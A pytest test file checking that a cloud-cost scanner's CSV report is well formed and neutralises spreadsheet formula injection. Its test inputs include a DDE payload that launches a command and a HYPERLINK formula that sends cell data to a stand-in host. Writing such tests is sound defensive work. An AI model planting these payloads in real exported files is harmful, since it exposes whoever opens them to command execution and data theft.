from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scanner.model.inventory import Gap, GapReason
from scanner.model.result import ScanResult, Waiver
from scanner.model.verdict import Disposition, Evidence, Outcome
from scanner.reports import render
from scanner.reports.csv import COLUMNS

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def rows_of(result: ScanResult) -> list[dict[str, str]]:
    text = render("csv", result).encode()
    assert text.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""), strict=True))


def message_of(make, text: str) -> str:
    return rows_of(make.result([make.finding(make.rule("r"), make.resource("/a"), Outcome.FAIL, text)]))[0]["message"]


def test_every_finding_gap_unevaluated_rule_and_note_has_a_row(result):
    kinds = [row["kind"] for row in rows_of(result)]
    assert kinds == ["finding"] * 18 + ["gap"] * 3 + ["notEvaluated"] + ["note"] * 2
    found = [(row["outcome"], row["disposition"], row["fingerprint"]) for row in rows_of(result)[:18]]
    assert found == [(f.outcome, f.disposition, f.fingerprint) for f in result.findings]


def test_the_lines_are_those_of_rfc_4180(result):
    text = render("csv", result).removeprefix("\ufeff")
    lines = text.split("\r\n")
    assert lines.pop() == ""
    assert len(lines) == 1 + len(rows_of(result))
    assert not set("\r\n") & set("".join(lines))
    assert lines[0] == ",".join(f'"{column}"' for column in COLUMNS)


def test_a_row_has_what_a_spreadsheet_is_asked_for(result):
    row = next(row for row in rows_of(result) if row["ruleId"] == "ml-cluster-scale-to-zero")
    wanted = {
        "outcome": "fail",
        "disposition": "new",
        "severity": "high",
        "phase": "optimize",
        "maturity": "crawl",
        "policy": "azure-ml",
        "name": "gpu-cluster",
        "resourceGroup": "rg-vision",
        "subscriptionId": "00000000-0000-0000-0000-00000000000a",
        "location": "swedencentral",
        "owner": "vision-team@contoso.com",
        "file": "infra/plan.json",
        "line": "42",
        "address": "module.vision.azurerm_machine_learning_compute_cluster.gpu",
        "message": "It keeps 2 nodes when idle.",
        "evidence": "properties.properties.scaleSettings.minNodeCount: 2 (expected: 0)",
    }
    assert {column: row[column] for column in wanted} == wanted


def test_an_exempted_finding_says_why_by_whom_and_until_when(result):
    row = next(row for row in rows_of(result) if row["disposition"] == "exempted")
    assert row["exemptionReason"] == "Load test until the launch."
    assert row["exemptionOwner"] == "search-team@contoso.com"
    assert row["exemptionExpires"] == "2026-12-31"


def test_a_gap_and_a_rule_that_was_not_evaluated_say_why(result):
    gap, rule = rows_of(result)[18], rows_of(result)[21]
    assert (gap["outcome"], gap["type"]) == ("forbidden", "metrics")
    assert gap["resourceId"].endswith("/accounts/aoai-search")
    assert (rule["ruleId"], rule["severity"]) == ("copilot-github-inactive", "low")
    assert rule["message"] == "no input holds GitHub Copilot seats; give --github-org"


def test_tags_are_json(result):
    row = next(row for row in rows_of(result) if row["resourceId"].endswith("/deployments/gpt-4.1-mini"))
    assert json.loads(row["effectiveTags"]) == {"team": "search", "environment": "prod"}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=cmd|" /C calc"!A0', '\'=cmd|" /C calc"!A0'),
        ('=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'=1"),
        ("\r=1", r"\u000d=1"),
        ("\n=1", "'=1"),
        ("  =1", "'=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("a=1", "a=1"),
        ("1-1", "1-1"),
        ("'=1", "'=1"),
        ('a","=1', 'a","=1'),
        ("a\n=1", "a =1"),
        ("a;=1", "a;=1"),
        ("客户", "客户"),
    ],
)
def test_no_cell_is_a_formula(make, text, cell):
    assert message_of(make, text) == cell


@settings(suppress_health_check=list(HealthCheck))
@given(st.text(st.one_of(st.sampled_from(SIGNS + "\"',; |\x00"), st.characters()), max_size=12))
def test_no_cell_of_any_column_is_a_formula(make, text):
    resource = make.resource(
        text, type=text, name=text, location=text, tags={}, effective_tags={"owner": text}, file=text
    )
    finding = make.finding(
        make.rule(text, title=text, phase=text, maturity=text, policy=text, remediation=text),
        resource,
        Outcome.FAIL,
        text,
        Evidence(text, text, text),
        disposition=Disposition.EXEMPTED,
        exemption=Waiver(text, text, text, text),
    )
    result = make.result([finding], (Gap(text, text, GapReason.TIMEOUT, text),), notes=(text,))
    rows = rows_of(result)
    assert [row["kind"] for row in rows] == ["finding", "gap", "note"]
    for row in rows:
        assert None not in row
        assert not [cell for cell in row.values() if cell.startswith(tuple(SIGNS))]


def test_a_cell_holds_as_much_as_excels(make):
    assert message_of(make, "x" * 32_767) == "x" * 32_767
    assert message_of(make, "x" * 40_000) == "x" * 32_766 + "…"
    assert len(message_of(make, "=" * 40_000)) == 32_767


def test_a_result_without_anything_has_a_head_line(make):
    assert rows_of(make.result([])) == []
    assert render("csv", make.result([])).count("\r\n") == 1
